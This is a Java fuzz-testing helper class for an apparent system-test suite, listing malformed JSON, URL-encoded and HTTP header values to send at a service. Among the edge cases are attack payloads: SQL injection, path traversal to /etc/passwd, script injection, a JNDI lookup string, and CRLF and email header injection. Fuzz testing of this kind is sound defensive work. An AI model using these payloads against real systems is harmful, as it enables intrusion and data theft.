package nl.etalage.systemtests.fuzz;

import java.util.List;
import java.util.random.RandomGenerator;

/** Values that break things, seen in the wild or in the books. Nothing here looks like an answer's stack trace or SQL. */
final class Hostile {

    /** Stands for two bytes that are no UTF-8. */
    static final char BROKEN_BYTES = '\uE000';

    private static final List<String> JSON = List.of(
            "null",
            "true",
            "[]",
            "{}",
            "[[]]",
            "{\"a\":{\"a\":{\"a\":[null]}}}",
            "-1",
            "0",
            "1e400",
            "-1e-400",
            "99999999999999999999999999999999",
            "2147483648",
            "9223372036854775808",
            "0.1",
            "NaN",
            "Infinity",
            "0x10",
            "01",
            "'text'",
            "\"\"",
            "\" \"",
            "\"\\u0000\"",
            "\"a\\u0000b\"",
            "\"\\ud800\"",
            "\"\\udc00\\ud800\"",
            "\"\\uffff\\ufffe\"",
            "\"\\u202e\\u200b\\u2066\"",
            "\"\\u001b[31m\"",
            "\"" + BROKEN_BYTES + "\"",
            "\"\\x\"",
            "\"unended",
            "\"\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67\"",
            "\"Z\u0351\u036b\u0343a\u0323l\u0354g\u0321o\"",
            "\"' OR '1'='1' --\"",
            "\"'; DROP TABLE story; --\"",
            "\"%00\"",
            "\"%s%n%d\"",
            "\"../../../../etc/passwd\"",
            "\"<script>alert(1)</script>\"",
            "\"{{shop.name}}{{\"",
            "\"{{shop.\\u0000}}\"",
            "\"${jndi:ldap://192.0.2.1/a}\"",
            "\"{0}\"",
            "\"{'\"",
            "\"javascript:alert(1)\"",
            "\"http://192.0.2.1/\"",
            "\"http://[::1]:1/\"",
            "\"http://\"",
            "\"2026-02-30\"",
            "\"2026-13-45T99:99\"",
            "\"2026-03-29T02:30\"",
            "\"+999999999-12-31T23:59\"",
            "\"-999999999-01-01\"",
            "\"0000-00-00\"",
            "\"9999-12-31T23:59:59.999999999Z\"",
            "\"294277-01-10T04:00:55Z\"",
            "\"2026-12-05T10:00:00+18:01\"",
            "\"Europe/Nergens\"",
            "\"00000000-0000-0000-0000-000000000000\"",
            "\"1-1-1-1-1\"",
            "\"nl_NL.UTF-8\"",
            "\"\\n\\r\\nX: y\"",
            "\"a@b\"",
            "\"a@b.example\\r\\nBcc: c@d.example\"");

    private static final List<String> TEXTS = List.of(
            "%00",
            "a%00b",
            "%2e%2e%2f%2e%2e%2f",
            "..%2f..%2fq%2fhealth",
            "%2e%2e",
            "..;",
            ";a=b",
            "%ff",
            "%C0%AF",
            "%ED%A0%80",
            "%F0%9F%98%80",
            "%E2%80%AE",
            "%",
            "%zz",
            "%25",
            "%2",
            "null",
            "undefined",
            "-1",
            "0",
            "1e9",
            "99999999999999999999",
            "2147483648",
            "true",
            "[]",
            "{}",
            "{id}",
            "'",
            "%27%20OR%201=1--",
            "%22",
            "%3Cscript%3E",
            "\\",
            "|",
            "*",
            "~",
            "+",
            "%20",
            "%0d%0aX:%20y",
            "00000000-0000-0000-0000-000000000000",
            "1-1-1-1-1",
            "01976B2E-4C00-7000-8000-000000000001",
            "ZEIST",
            "zeist%20",
            "z%C3%A9ist",
            "2026-02-30",
            "%2B999999999-12-31",
            "9999-12-31T23:59",
            "eyJhIjpudWxsfQ",
            "W10",
            "////",
            "a".repeat(300),
            "a".repeat(3000));

    private static final List<String> HEADERS = List.of(
            "",
            "*",
            "\"\"",
            "\"abc\"",
            "\"-1\"",
            "\"99999999999999999999\"",
            "1",
            "W/\"1\"",
            "\"1\", \"2\"",
            "\"1",
            "\"0\"\"1\"",
            "null",
            "a b",
            "\u00e9\u00e9",
            "\u0001",
            "\t",
            ";;;",
            "=",
            "a=b;q=abc",
            "text/html",
            "application/json;charset=utf-16",
            "application/json;charset=bestaat-niet",
            "application/json; boundary=\"",
            "multipart/form-data",
            "multipart/form-data; boundary=",
            "application/x-www-form-urlencoded",
            "application/xml",
            "image/svg+xml",
            "*/*",
            "nl;q=9, en;q=-1, *;q=0",
            "xx-" + "y".repeat(200),
            "00-" + "f".repeat(32) + "-" + "f".repeat(16) + "-ff",
            "bytes=0-,-1,5-2",
            "a".repeat(255),
            "a".repeat(256),
            "a".repeat(7000));

    private static final int MANY = 6;

    private Hostile() {}

    /** A JSON value as text, mostly one that can be parsed. */
    static String json(RandomGenerator random) {
        return switch (random.nextInt(MANY * 4)) {
            case 0 -> "[".repeat(5000) + "]".repeat(5000);
            case 1 -> "{\"a\":".repeat(1200) + "1" + "}".repeat(1200);
            case 2 -> "\"" + "a".repeat(1 + random.nextInt(300_000)) + "\"";
            case 3 -> "\"" + "\ud83d\ude00".repeat(1 + random.nextInt(5000)) + "\"";
            case 4 -> "[" + "1,".repeat(20_000) + "1]";
            case 5 -> "1" + "0".repeat(2000);
            case 6 -> "\"" + text(random) + "\"";
            default -> JSON.get(random.nextInt(JSON.size()));
        };
    }

    /** Part of a path or a query, as it goes over the wire. */
    static String encoded(RandomGenerator random) {
        return TEXTS.get(random.nextInt(TEXTS.size()));
    }

    /** Value of a header, one line. */
    static String header(RandomGenerator random) {
        return HEADERS.get(random.nextInt(HEADERS.size()));
    }

    private static String text(RandomGenerator random) {
        StringBuilder text = new StringBuilder();
        int length = random.nextInt(40);
        for (int i = 0; i < length; i++) {
            int point = random.nextInt(0x20, random.nextBoolean() ? 0x7f : 0x1ffff);
            if (point != '"' && point != '\\' && (point < 0xd800 || point > 0xf8ff)) {
                text.appendCodePoint(point);
            }
        }
        return text.toString();
    }
}
